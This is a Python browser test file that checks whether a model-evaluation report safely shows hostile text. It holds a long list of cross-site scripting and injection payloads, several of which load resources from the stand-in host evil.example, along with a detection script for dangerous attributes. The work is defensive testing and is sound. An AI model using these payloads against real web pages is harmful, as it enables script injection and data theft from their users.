"""What a model writes is text, wherever the page shows it: nothing runs, nothing is fetched, nothing becomes markup."""

from __future__ import annotations

import base64
import re

import pytest
from runs import make_episode, make_error, make_plan, make_reply, make_run

from llm_envs.evals.report import build

pytestmark = pytest.mark.browser

MARKUP = (
    "<script>pwned()</script>",
    "</script><script>pwned()</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script src=//evil.example/x.js>",
    "<script type=module>import 'http://evil.example/x.js'</script>",
    "<img src=x onerror=pwned()>",
    "<img src=http://evil.example/pixel.png>",
    "<img srcset='http://evil.example/a 1x' onload=pwned()>",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    "` onmouseover=pwned() x=`",
    '" onfocus=pwned() autofocus tabindex=1 x="',
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:pwned()'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=pwned()>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=http://evil.example></iframe>",
    "<object data=http://evil.example/x.swf></object>",
    "<embed src=http://evil.example/x.swf>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/x>",
    "<style>@import 'http://evil.example/x.css'; * { display: none }</style>",
    "<style>body { background: url(http://evil.example/x) }</style>",
    "<div style='background: url(http://evil.example/x)'>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><input name=x><button>go</button></form>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<textarea autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=http://evil.example/x.mp3 autoplay onerror=pwned()>",
    "<marquee onstart=pwned()>",
    "<body onload=pwned()>",
    "<a href=javascript:pwned()>click</a>",
    "<a href='data:text/html,<script>pwned()</script>'>click</a>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<!--><img src=x onerror=pwned()>-->",
    "<![CDATA[><img src=x onerror=pwned()>]]>",
    "<think><img src=x onerror=pwned()></think>",
    '<tool_call>{"name": "<img src=x onerror=pwned()>", "arguments": {"<b>": "</script>"}}</tool_call>',
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "javascript:pwned()",
    "__proto__",
    "constructor",
    "toString",
    "\\u003cimg src=x onerror=pwned()\\u003e",
    "&lt;img src=x onerror=pwned()&gt;",
    "\x00<img src=x onerror=pwned()>",
    "\x1b]0;pwned\x07\x1b[2J",
    "\u202epwned\u202c\u2066\u2069",
    "\ud800 alone \udfff",
    "\ufeff\u200b\u2028\u2029pwned",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 30,
    "x" * 5000,
)
FORBIDDEN = (
    "iframe, object, embed, link, base, form, video, audio, marquee, math, template, textarea, select, style, script"
)


def hostile(task):
    """An episode that says one thing in every field that holds text."""
    said = MARKUP[task]
    call = {"id": said, "function": {"name": said, "arguments": {said: said}}}
    messages = [
        {"role": "system", "content": said},
        {"role": "user", "content": said, "name": said},
        {"role": "assistant", "content": said, "tool_calls": [call]},
        {"role": "tool", "content": said, "tool_call_id": said, "name": said},
        {"role": said, "content": said},
    ]
    part = {"score": 0.5, "weight": 1.0, "kind": said}
    verdict = {"reward": 0.5, "status": said, "reason": said, "parts": {said: part}, "details": {said: said}}
    return make_episode(
        task,
        reward=0.5,
        task_id=said,
        said=[messages, messages],
        verdict=verdict,
        stop_reason=said,
        tags={said: said, "kind": said},
        reference=said,
        difficulty=1,
        files=[{"name": said, "path": said, "turn": 0}, {"name": said, "path": "files/a.bin", "turn": None}],
        replies=[make_reply(said, ids=list(said.encode("utf-8", "replace")), logprobs=None, finish=said)],
    )


@pytest.fixture(scope="module")
def page_address(tmp_path_factory):
    """A report of all of it, against itself, with errors and a plan that say the same things."""
    folder = tmp_path_factory.mktemp("hostile")
    errors = [make_error(len(MARKUP) + n, error=said, message=said) for n, said in enumerate(MARKUP)]
    plan = make_plan(2 * len(MARKUP), model=MARKUP[1], split=MARKUP[5])
    run = make_run(folder / "run", plan, [*map(hostile, range(len(MARKUP))), *errors])
    (run.path / "files").mkdir()
    (run.path / "files" / "a.bin").write_bytes(b"\0")
    other = make_run(folder / "other", plan, map(hostile, range(len(MARKUP))))
    return build(run, against=other).as_uri()


@pytest.fixture
def hostile_page(page_address, open_page):
    """The report, with everything watched that a script in it might do."""
    page = open_page(page_address)
    page.evaluate("() => { window.pwned = () => { window.isPwned = true; }; }")
    return page


def require_harmless(page):
    """Nothing ran, left, asked or came to be."""
    assert page.evaluate("() => window.isPwned") is None
    assert (page.watch.dialogs, page.watch.outside) == ([], [])
    assert [error for error in page.watch.errors if "pwned" in error or "Content Security" in error] == []
    assert page.locator(f"main :is({FORBIDDEN})").count() == 0
    assert page.evaluate(ODD_ATTRIBUTES) == []


ODD_ATTRIBUTES = """() => [...document.querySelectorAll("body *")].flatMap((node) => [...node.attributes]
  .filter(({ name, value }) => name.startsWith("on") || name === "srcdoc" || name === "srcset"
    || (name === "src" && !value.startsWith("data:image/"))
    || (name === "href" && !/^(#|[.][/]files[/])/.test(value)))
  .map(({ name, value }) => `${name}=${value}`))"""


@pytest.mark.parametrize("view", ["overview", "episodes", "episodes?sort=end", "compare"])
def test_views_of_the_run_are_harmless(hostile_page, page_address, view):
    """Tables, breakdowns, errors and the plan show text."""
    hostile_page.goto(f"{page_address}#/{view}")
    hostile_page.wait_for_selector("main .card, main .space .row, main .nothing")
    require_harmless(hostile_page)


def test_every_episode_is_harmless(hostile_page, page_address):
    """As text, raw, by tokens, beside others, as a pair: it is shown as what it is, and does nothing."""
    for task, said in enumerate(MARKUP):
        hash_ = f"episode/llm%2FMath-v0/{task}/0"
        for where in (hash_, f"{hash_}?show=raw", f"{hash_}?show=tokens", f"pair/llm%2FMath-v0/{task}/0"):
            hostile_page.goto(f"{page_address}#/{where}")
            hostile_page.wait_for_selector("main .message, main .tokens")
            plain = re.search(r"[!-~]{1,60}", said)[0]
            if where.endswith("raw"):
                assert plain in hostile_page.evaluate("() => document.querySelector('main').textContent")
        require_harmless(hostile_page)


def test_every_error_is_harmless(hostile_page, page_address):
    """Messages of exceptions may quote anything."""
    for task in range(len(MARKUP), 2 * len(MARKUP)):
        hostile_page.goto(f"{page_address}#/episode/llm%2FMath-v0/{task}/0")
        hostile_page.wait_for_selector("main .card")
    require_harmless(hostile_page)


def test_filters_take_anything(hostile_page):
    """What is typed is a filter or a mistake, and text in any case; links on breakdowns can be followed."""
    for said in MARKUP[::3]:
        hostile_page.fill("#filter", said[:300].replace("\n", " "))
        hostile_page.wait_for_timeout(180)
    require_harmless(hostile_page)
    hostile_page.fill("#filter", "")
    hostile_page.wait_for_timeout(300)
    links = hostile_page.eval_on_selector_all("a.group", "links => links.map((link) => link.hash)")
    assert len(links) > 20
    for link in links[::5]:
        hostile_page.evaluate("(hash) => { location.hash = hash; }", link)
        hostile_page.wait_for_selector(".space .row")
        assert hostile_page.get_attribute("#filter", "aria-invalid") == "false", link
    require_harmless(hostile_page)


@pytest.mark.parametrize("said", MARKUP[:20])
def test_addresses_take_anything(open_page, page_address, said):
    """A link made by somebody else does nothing but name a place that is not there."""
    packed = base64.b64encode(said.encode()).decode()
    for hash_ in (said, f"/episode/{said}", f"/overview?filter={said}", f"/episodes?sort={said}&show={packed}"):
        page = open_page(f"{page_address}#{hash_}")
        require_harmless(page)
        page.context.close()


def test_the_policy_would_stop_a_script_that_got_in(hostile_page):
    """Even if markup were made somewhere: it may not be parsed, inline scripts do not run, and nothing is fetched."""
    outcome = hostile_page.evaluate(
        """async () => {
          const tried = {};
          try {
            document.body.innerHTML = "<img src=x onerror=pwned()>";
            tried.markup = true;
          } catch { tried.markup = false; }
          const script = document.createElement("script");
          try { script.text = "pwned()"; document.body.append(script); } catch { tried.script = false; }
          const image = new Image();
          image.src = "http://127.0.0.1:9/pixel.png";
          try { await fetch("http://127.0.0.1:9/"); tried.fetch = true; } catch { tried.fetch = false; }
          return tried;
        }"""
    )
    assert outcome == {"markup": False, "script": False, "fetch": False}
    assert hostile_page.evaluate("() => window.isPwned") is None
